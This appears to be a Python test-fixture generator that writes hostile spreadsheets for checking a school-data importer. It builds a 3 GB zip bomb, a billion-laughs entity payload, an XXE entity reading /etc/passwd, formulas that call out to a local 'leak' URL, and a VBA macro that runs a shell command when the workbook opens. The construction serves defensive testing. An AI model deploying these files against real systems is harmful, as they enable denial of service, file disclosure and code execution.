#!/usr/bin/env python3
"""Writes the hostile workbooks of tests/hostile/workbooks/ (described in its README.md), on which
`minhbach import schools` must end in a finding: never hang, crash or run anything.

    pip install msoffcrypto-tool     # only for encrypted.xlsx (it encrypts as Excel does)
    python3 scripts/make-hostile-workbooks.py

Most files start from tests/fixtures/import/long-shape/input.xlsx, the valid LibreOffice
workbook of fixture case 2 (run scripts/make-import-fixtures.py first), and change some of its
parts with zipfile/zlib. Deterministic: a fixed seed and fixed zip times; encrypted.xlsx is
kept while it still decrypts to the base (its salt is random). Every file stays under 6 MB.
"""

import random
import re
import struct
import zipfile
import zlib
from pathlib import Path
from xml.sax.saxutils import escape

ROOT = Path(__file__).resolve().parent.parent
BASE = ROOT / "tests" / "fixtures" / "import" / "long-shape" / "input.xlsx"
OUT = ROOT / "tests" / "hostile" / "workbooks"
WHEN = (2025, 1, 1, 0, 0, 0)
SHEET1 = "xl/worksheets/sheet1.xml"
PASSWORD = "minhbach"
HEADER = ["Mã trường", "Tên trường", "Cấp học", "Loại hình", "Xã/phường", "Huyện (cũ)",
          "Địa chỉ", "Hiệu trưởng", "Điện thoại", "Email", "Số học sinh", "Số lớp"]
SCHOOL_1 = ["75000701", "Trường Tiểu học Đinh Bộ Lĩnh", "Tiểu học", "Công lập",
            "Phường Trấn Biên", "Thành phố Biên Hòa", "12 đường Võ Thị Sáu", "Nguyễn Thị Hoa",
            "0251 3822 123", "thdinhbolinh@example.edu.vn", 812, 24]
SCHOOL_2 = ["75000702", "Trường Mầm non Hoa Sen", "Mầm non", "Công lập", "Phường Tam Hiệp",
            "Thành phố Biên Hòa", "45 đường Phạm Văn Thuận", "Trần Thị Thu Hằng",
            "0251 3814 207", "mnhoasen@example.edu.vn", 356, 12]


def base_parts():
    """The parts of the valid workbook, in their order."""
    with zipfile.ZipFile(BASE) as z:
        return {n: z.read(n) for n in z.namelist()}


def write_zip(path, parts):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(zipfile.ZipInfo(name, WHEN), data, zipfile.ZIP_DEFLATED)


def col(i):
    s = ""
    i += 1
    while i:
        i, r = divmod(i - 1, 26)
        s = chr(65 + r) + s
    return s


def cell(ref, value):
    """A cell as Excel writes it: numbers as <v>, text inline; a tuple (formula, cached) is a
    formula cell with its cached result."""
    if isinstance(value, tuple):
        f, cached = value
        if isinstance(cached, (int, float)):
            return '<c r="%s"><f>%s</f><v>%s</v></c>' % (ref, escape(f), cached)
        return '<c r="%s" t="str"><f>%s</f><v>%s</v></c>' % (ref, escape(f), escape(cached))
    if isinstance(value, (int, float)):
        return '<c r="%s"><v>%s</v></c>' % (ref, value)
    return '<c r="%s" t="inlineStr"><is><t xml:space="preserve">%s</t></is></c>' % (
        ref, escape(value))


def rows_xml(rows, first=1):
    return "".join('<row r="%d">%s</row>' % (
        first + r, "".join(cell("%s%d" % (col(c), first + r), v) for c, v in enumerate(row)
                           if v is not None)) for r, row in enumerate(rows))


def with_sheet_data(sheet, data, dimension):
    """`sheet` (the base's sheet XML) with its <sheetData> replaced by `data`."""
    text = sheet.decode("utf-8")
    text = re.sub(r"<sheetData>.*</sheetData>|<sheetData/>", lambda _: "<sheetData>%s</sheetData>"
                  % data, text, count=1, flags=re.S)
    text = re.sub(r'<dimension ref="[^"]*"/>', '<dimension ref="%s"/>' % dimension, text, count=1)
    return text.encode("utf-8")


def corrupt():
    """4 KiB of random bytes after a zip signature, so that sniffing the magic says "zip"."""
    rnd = random.Random(20261205)
    return b"PK\x03\x04" + rnd.randbytes(4092)


def truncated():
    data = BASE.read_bytes()
    return data[: len(data) // 2]


def encrypted():
    import io
    import msoffcrypto.format.ooxml

    out = io.BytesIO()
    with open(BASE, "rb") as f:
        msoffcrypto.format.ooxml.OOXMLFile(f).encrypt(PASSWORD, out)
    return out.getvalue()


def write_encrypted(path):
    """encrypted.xlsx, kept as it is when it still decrypts to the base workbook: the salt is
    random, so a new encryption would change the file at every run."""
    import io
    import msoffcrypto

    if path.exists():
        try:
            office = msoffcrypto.OfficeFile(io.BytesIO(path.read_bytes()))
            office.load_key(password=PASSWORD)
            plain = io.BytesIO()
            office.decrypt(plain)
            if plain.getvalue() == BASE.read_bytes():
                return
        except Exception:  # any failure to decrypt: write it again
            pass
    path.write_bytes(encrypted())


def zip_bomb(path, target=3_000_000_000):
    """A workbook whose sheet1.xml inflates to `target` bytes (3 GB, under the 4 GiB that a
    zip without Zip64 can state): a header row, then one cell whose text is a single letter
    repeated, deflated in one stream, which gives deflate's best ratio (about 1030 to 1; a
    repeated row of 87 bytes gives only 294). The sizes are stated honestly in the headers; the
    zip is written by hand because Python's zipfile insists on Zip64 above 2 GiB."""
    parts = base_parts()
    head = with_sheet_data(parts[SHEET1], "\x00", "A1:L2").decode()
    before, after = head.split("\x00")
    before = (before + rows_xml([HEADER]) + '<row r="2"><c r="A2" t="inlineStr"><is><t>').encode()
    after = ("</t></is></c></row>" + after).encode()
    chunk = b"A" * (1 << 20)
    middle = target - len(before) - len(after)
    comp = zlib.compressobj(9, zlib.DEFLATED, -15, 9)
    crc = zlib.crc32(before)
    out = [comp.compress(before)]
    left = middle
    while left > 0:
        piece = chunk[:left] if left < len(chunk) else chunk
        crc = zlib.crc32(piece, crc)
        out.append(comp.compress(piece))
        left -= len(piece)
    crc = zlib.crc32(after, crc)
    out.append(comp.compress(after))
    out.append(comp.flush())
    bomb = b"".join(out)

    entries = []
    blob = bytearray()
    dostime = (WHEN[3] << 11) | (WHEN[4] << 5) | (WHEN[5] // 2)
    dosdate = ((WHEN[0] - 1980) << 9) | (WHEN[1] << 5) | WHEN[2]
    for name, data in parts.items():
        if name == SHEET1:
            c, size, crc_ = bomb, target, crc & 0xFFFFFFFF
        else:
            co = zlib.compressobj(9, zlib.DEFLATED, -15)
            c, size, crc_ = co.compress(data) + co.flush(), len(data), zlib.crc32(data)
        n = name.encode()
        entries.append((n, len(blob), c, size, crc_))
        blob += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, dostime, dosdate, crc_,
                            len(c), size, len(n), 0) + n + c
    cd = bytearray()
    for n, off, c, size, crc_ in entries:
        cd += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, dostime, dosdate,
                          crc_, len(c), size, len(n), 0, 0, 0, 0, 0, off) + n
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(cd),
                       len(blob), 0)
    path.write_bytes(bytes(blob + cd + eocd))


def entities():
    """Billion laughs in sharedStrings.xml (ten levels of ten: 10^9 copies of "lol" if
    expanded), and an external entity naming /etc/passwd in the "Ghi chú" sheet."""
    parts = base_parts()
    lol = ['<!ENTITY lol0 "lol">'] + [
        '<!ENTITY lol%d "%s">' % (i, ("&lol%d;" % (i - 1)) * 10) for i in range(1, 10)]
    doctype = "<!DOCTYPE sst [\n%s\n]>\n" % "\n".join(lol)
    sst = parts["xl/sharedStrings.xml"].decode()
    sst = sst.replace("?>", "?>\n" + doctype, 1)
    sst = re.sub(r'count="(\d+)" uniqueCount="(\d+)"', lambda m: 'count="%d" uniqueCount="%d"' %
                 (int(m[1]) + 1, int(m[2]) + 1), sst, count=1)
    sst = sst.replace("</sst>", "<si><t>&lol9;</t></si></sst>")
    parts["xl/sharedStrings.xml"] = sst.encode()
    sheet3 = parts["xl/worksheets/sheet3.xml"].decode()
    sheet3 = sheet3.replace("?>", '?>\n<!DOCTYPE worksheet [\n<!ENTITY xxe SYSTEM '
                            '"file:///etc/passwd">\n<!ENTITY lol "lol">\n]>\n', 1)
    sheet3 = sheet3.replace("</sheetData>", '<row r="6"><c r="A6" t="inlineStr"><is><t>&xxe;'
                            '</t></is></c></row></sheetData>')
    parts["xl/worksheets/sheet3.xml"] = sheet3.encode()
    return parts


def big_cell():
    """Địa chỉ (G2) of the first school is 10 MB of text."""
    parts = base_parts()
    words = "12 đường Võ Thị Sáu, phường Trấn Biên, tỉnh Đồng Nai; "
    text = (words * (10_000_000 // len(words.encode()) + 1)).encode()[:10_000_000]
    text = text.decode("utf-8", "ignore")
    row1 = list(SCHOOL_1)
    row1[6] = text
    parts[SHEET1] = with_sheet_data(parts[SHEET1], rows_xml([HEADER, row1, SCHOOL_2]), "A1:L3")
    return parts


def million_rows():
    """A header, 2 schools, then rows 4 to 1,048,576 (the last row Excel has) empty but
    styled, as a workbook gets after someone formats whole columns."""
    parts = base_parts()
    empty = "".join('<row r="%d" s="1" customFormat="1"/>' % r for r in range(4, 1_048_577))
    parts[SHEET1] = with_sheet_data(parts[SHEET1], rows_xml([HEADER, SCHOOL_1, SCHOOL_2]) + empty,
                                    "A1:L1048576")
    return parts


def formulas():
    """The two schools written as formulas with cached values: the cached <v> is the data. The
    WEBSERVICE and HYPERLINK formulas would call out if evaluated; they must never be."""
    parts = base_parts()
    row1 = list(SCHOOL_1)
    row1[0] = ('CONCATENATE("7500","0701")', "75000701")
    row1[1] = ('"Trường Tiểu học "&"Đinh Bộ Lĩnh"', "Trường Tiểu học Đinh Bộ Lĩnh")
    row1[7] = ('WEBSERVICE("http://127.0.0.1:9/leak?id="&A2)', "Nguyễn Thị Hoa")
    row1[9] = ('HYPERLINK("http://127.0.0.1:9/click","thdinhbolinh@example.edu.vn")',
               "thdinhbolinh@example.edu.vn")
    row1[10] = ("400+412", 812)
    row2 = list(SCHOOL_2)
    row2[0] = ("TEXT(75000702,\"00000000\")", "75000702")
    row2[11] = ("SUM(5,7)", 12)
    parts[SHEET1] = with_sheet_data(parts[SHEET1], rows_xml([HEADER, row1, row2]), "A1:L3")
    return parts


# --- macro.xlsm: a compound file holding a small VBA project ---------------------------------

def ovba_compress(data):
    """MS-OVBA 2.4.1 compression with literal tokens only (valid, just not smaller): one chunk
    per 4096 bytes of input, each small enough here to be a compressed chunk."""
    out = bytearray(b"\x01")
    for start in range(0, len(data), 4096):
        piece = data[start:start + 4096]
        body = bytearray()
        for i in range(0, len(piece), 8):
            body += b"\x00" + piece[i:i + 8]
        assert len(body) + 2 <= 4098, "chunk too large for literal-only compression"
        out += struct.pack("<H", 0xB000 | (len(body) + 2 - 3)) + body
    return bytes(out)


def rec(rid, payload):
    return struct.pack("<HI", rid, len(payload)) + payload


def vba_dir(modules):
    name = b"VBAProject"
    d = bytearray()
    d += rec(0x01, struct.pack("<I", 1))            # PROJECTSYSKIND: win32
    d += rec(0x02, struct.pack("<I", 0x409))        # PROJECTLCID
    d += rec(0x14, struct.pack("<I", 0x409))        # PROJECTLCIDINVOKE
    d += rec(0x03, struct.pack("<H", 1252))         # PROJECTCODEPAGE
    d += rec(0x04, name)                            # PROJECTNAME
    d += rec(0x05, b"") + rec(0x40, b"")            # PROJECTDOCSTRING (+ Unicode)
    d += rec(0x06, b"") + rec(0x3D, b"")            # PROJECTHELPFILEPATH 1 and 2
    d += rec(0x07, struct.pack("<I", 0))            # PROJECTHELPCONTEXT
    d += rec(0x08, struct.pack("<I", 0))            # PROJECTLIBFLAGS
    d += struct.pack("<HIIH", 0x09, 4, 1, 0)        # PROJECTVERSION (Reserved = 4)
    d += rec(0x0C, b"") + rec(0x3C, b"")            # PROJECTCONSTANTS (+ Unicode)
    d += rec(0x0F, struct.pack("<H", len(modules)))  # PROJECTMODULES
    d += rec(0x13, struct.pack("<H", 0xFFFF))       # PROJECTCOOKIE
    for mod, kind in modules:
        m = mod.encode()
        u = mod.encode("utf-16-le")
        d += rec(0x19, m) + rec(0x47, u)             # MODULENAME, MODULENAMEUNICODE
        d += rec(0x1A, m) + rec(0x32, u)             # MODULESTREAMNAME (+ Unicode)
        d += rec(0x1C, b"") + rec(0x48, b"")         # MODULEDOCSTRING (+ Unicode)
        d += rec(0x31, struct.pack("<I", 0))         # MODULEOFFSET: source at 0, no p-code
        d += rec(0x1E, struct.pack("<I", 0))         # MODULEHELPCONTEXT
        d += rec(0x2C, struct.pack("<H", 0xFFFF))    # MODULECOOKIE
        d += rec(kind, b"")                          # MODULETYPE: 0x21 procedural, 0x22 document
        d += rec(0x2B, b"")                          # module terminator
    d += rec(0x10, b"")                              # dir terminator
    return bytes(d)


def cfb(entries):
    """A version-3 compound file (MS-CFB) from a tree of storages (dicts) and streams (bytes),
    every stream under 4096 bytes, so all of them live in the mini stream."""
    nodes = []  # [name, type, children, data]

    def add(name, value):
        i = len(nodes)
        if isinstance(value, dict):
            nodes.append([name, 1, [], b""])
            nodes[i][2] = [add(k, v) for k, v in value.items()]
        else:
            assert len(value) < 4096
            nodes.append([name, 2, [], value])
        return i

    nodes.append(["Root Entry", 5, [], b""])
    nodes[0][2] = [add(k, v) for k, v in entries.items()]

    mini = bytearray()
    minifat = []
    start = {}
    for i, (name, kind, _, data) in enumerate(nodes):
        if kind != 2:
            continue
        start[i] = len(mini) // 64
        n = max(1, -(-len(data) // 64))
        minifat += [start[i] + k + 1 for k in range(n - 1)] + [0xFFFFFFFE]
        mini += data + b"\x00" * (n * 64 - len(data))

    def key(i):
        return (len(nodes[i][0]), nodes[i][0].upper())

    left = {}
    right = {}
    child = {}
    for i, node in enumerate(nodes):
        kids = sorted(node[2], key=key)
        if kids:
            # A chain of right siblings, in the order the format sorts names.
            child[i] = kids[0]
            for a, b in zip(kids, kids[1:]):
                right[a] = b

    dir_sectors = -(-len(nodes) // 4)
    minifat_sectors = -(-len(minifat) // 128)
    mini_sectors = -(-len(mini) // 512)
    # Sector 0: FAT; then directory, mini FAT, mini stream.
    first_dir = 1
    first_minifat = first_dir + dir_sectors
    first_mini = first_minifat + minifat_sectors
    total = first_mini + mini_sectors
    assert total <= 128
    fat = [0xFFFFFFFD]
    for first, count in ((first_dir, dir_sectors), (first_minifat, minifat_sectors),
                         (first_mini, mini_sectors)):
        fat += [first + k + 1 for k in range(count - 1)] + [0xFFFFFFFE]
    fat += [0xFFFFFFFF] * (128 - len(fat))

    entries_bin = bytearray()
    for i, (name, kind, _, data) in enumerate(nodes):
        u = name.encode("utf-16-le") + b"\x00\x00"
        if kind == 5:
            sect, size = first_mini, len(mini)
        elif kind == 2:
            sect, size = start[i], len(data)
        else:
            sect, size = 0, 0
        entries_bin += (u.ljust(64, b"\x00") + struct.pack("<HBB", len(u), kind, 1)
                        + struct.pack("<III", left.get(i, 0xFFFFFFFF), right.get(i, 0xFFFFFFFF),
                                      child.get(i, 0xFFFFFFFF))
                        + b"\x00" * 16 + struct.pack("<I", 0) + b"\x00" * 16
                        + struct.pack("<IQ", sect, size))
    empty = b"\x00" * 64 + struct.pack("<HBB", 0, 0, 0) + struct.pack("<III", *[0xFFFFFFFF] * 3) \
        + b"\x00" * 36 + struct.pack("<IQ", 0, 0)
    while len(entries_bin) < dir_sectors * 512:
        entries_bin += empty

    header = (bytes.fromhex("D0CF11E0A1B11AE1") + b"\x00" * 16
              + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\x00" * 6
              + struct.pack("<IIIIIIIII", 0, 1, first_dir, 0, 4096, first_minifat,
                            minifat_sectors, 0xFFFFFFFE, 0)
              + struct.pack("<I", 0) + struct.pack("<I", 0xFFFFFFFF) * 108)
    assert len(header) == 512
    body = struct.pack("<128I", *fat) + bytes(entries_bin)
    mf = minifat + [0xFFFFFFFF] * (minifat_sectors * 128 - len(minifat))
    body += struct.pack("<%dI" % len(mf), *mf)
    body += bytes(mini) + b"\x00" * (mini_sectors * 512 - len(mini))
    return header + body


def vba_project():
    source = ('Attribute VB_Name = "Module1"\r\n'
              "Sub Auto_Open()\r\n"
              '    MsgBox "Macro chay khi mo tep: minhbach khong duoc chay no."\r\n'
              "End Sub\r\n").encode("cp1252")
    this = ('Attribute VB_Name = "ThisWorkbook"\r\n'
            'Attribute VB_Base = "0{00020819-0000-0000-C000-000000000046}"\r\n'
            "Private Sub Workbook_Open()\r\n"
            '    Shell "cmd /c echo minhbach-macro-ran"\r\n'
            "End Sub\r\n").encode("cp1252")
    project = ('ID="{5D1B6F3E-3C2A-4B8E-9E4B-1F2A3B4C5D6E}"\r\n'
               "Document=ThisWorkbook/&H00000000\r\n"
               "Module=Module1\r\n"
               'Name="VBAProject"\r\n'
               'HelpContextID="0"\r\n'
               'VersionCompatible32="393222000"\r\n'
               "\r\n[Host Extender Info]\r\n"
               "&H00000001={3832D640-CF90-11CF-8E43-00A0C911005A};VBE;&H00000000\r\n"
               "\r\n[Workspace]\r\nThisWorkbook=0, 0, 0, 0, C\r\nModule1=0, 0, 0, 0, C\r\n"
               ).encode("cp1252")
    projectwm = b"ThisWorkbook\x00" + "ThisWorkbook".encode("utf-16-le") + b"\x00\x00" \
        + b"Module1\x00" + "Module1".encode("utf-16-le") + b"\x00\x00" + b"\x00\x00"
    return cfb({
        "VBA": {
            "dir": ovba_compress(vba_dir([("ThisWorkbook", 0x22), ("Module1", 0x21)])),
            "_VBA_PROJECT": bytes([0xCC, 0x61, 0xFF, 0xFF, 0x00, 0x00, 0x00]),
            "ThisWorkbook": ovba_compress(this),
            "Module1": ovba_compress(source),
        },
        "PROJECT": project,
        "PROJECTwm": projectwm,
    })


def macro():
    parts = base_parts()
    ct = parts["[Content_Types].xml"].decode()
    ct = ct.replace("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                    "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    assert "macroEnabled" in ct
    ct = ct.replace("<Override", '<Default Extension="bin" '
                    'ContentType="application/vnd.ms-office.vbaProject"/><Override', 1)
    parts["[Content_Types].xml"] = ct.encode()
    rels = parts["xl/_rels/workbook.xml.rels"].decode()
    rels = rels.replace("</Relationships>", '<Relationship Id="rIdVba" Type="http://schemas.'
                        'microsoft.com/office/2006/relationships/vbaProject" '
                        'Target="vbaProject.bin"/></Relationships>')
    parts["xl/_rels/workbook.xml.rels"] = rels.encode()
    parts["xl/vbaProject.bin"] = vba_project()
    return parts


def main():
    if not BASE.exists():
        raise SystemExit("%s is missing: run scripts/make-import-fixtures.py first" % BASE)
    OUT.mkdir(parents=True, exist_ok=True)
    (OUT / "corrupt.xlsx").write_bytes(corrupt())
    (OUT / "truncated.xlsx").write_bytes(truncated())
    write_encrypted(OUT / "encrypted.xlsx")
    zip_bomb(OUT / "zip-bomb.xlsx")
    write_zip(OUT / "entities.xlsx", entities())
    write_zip(OUT / "big-cell.xlsx", big_cell())
    write_zip(OUT / "million-rows.xlsx", million_rows())
    write_zip(OUT / "formulas.xlsx", formulas())
    write_zip(OUT / "macro.xlsm", macro())
    total = 0
    for p in sorted(OUT.iterdir()):
        if p.suffix in (".xlsx", ".xlsm"):
            size = p.stat().st_size
            total += size
            assert size < 6_000_000, p
            print("%-18s %9d bytes" % (p.name, size))
    assert total < 15_000_000
    print("total %d bytes" % total)


if __name__ == "__main__":
    main()
